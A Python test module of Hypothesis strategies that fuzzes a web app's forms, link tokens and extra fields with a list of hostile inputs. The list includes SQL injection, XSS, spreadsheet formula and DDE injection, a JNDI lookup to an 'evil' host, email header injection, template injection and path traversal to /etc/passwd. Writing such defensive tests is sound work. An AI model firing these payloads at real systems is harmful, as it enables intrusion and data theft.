"""What an attacker, a broken client or a confused person types: the values every public form
and link is tried with."""

from __future__ import annotations

from hypothesis import strategies as st

HOSTILE = [
    "",
    " ",
    "\x00",
    "\x00\x01\x02\x7f",
    "Robert'); DROP TABLE events_booking;--",
    "' OR '1'='1",
    "\u202egnp.exe",  # right-to-left override
    "\u200f\u202b\u2066مرحبا\u2069",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    '=HYPERLINK("http://evil")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{{ 7*7 }}{% debug %}",
    "${jndi:ldap://evil/a}",
    "\r\n\r\nBcc: everyone@example.org",
    "\ufeff\u200b",
    "😀" * 300,
    "a" * 5001,
    "é" * 161,
    "%s%n%x%00",
    "../../etc/passwd",
    "-1",
    "0",
    "1e400",
    "NaN",
    "9" * 40,
    "00000000-0000-0000-0000-000000000000",
    "yes",
    "no",
]
TEXT = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(max_size=80),
    st.text(min_size=150, max_size=400),
    st.builds(lambda a, b: a + b, st.sampled_from(HOSTILE), st.text(max_size=40)),
    st.binary(max_size=60).map(lambda raw: raw.decode("latin-1")),
)
# A form field as posted: one value, several, or none.
POSTED = st.one_of(TEXT, st.lists(TEXT, max_size=4))
# Field names a form does not ask for.
EXTRA_FIELDS = st.dictionaries(
    st.one_of(st.sampled_from(["csrfmiddlewaretoken", "next", "id", "pk", "__all__"]), TEXT),
    POSTED,
    max_size=3,
)
# What a link's token may be replaced with.
TOKENS = st.one_of(TEXT, st.binary(max_size=80).map(bytes.hex), st.text(max_size=300))
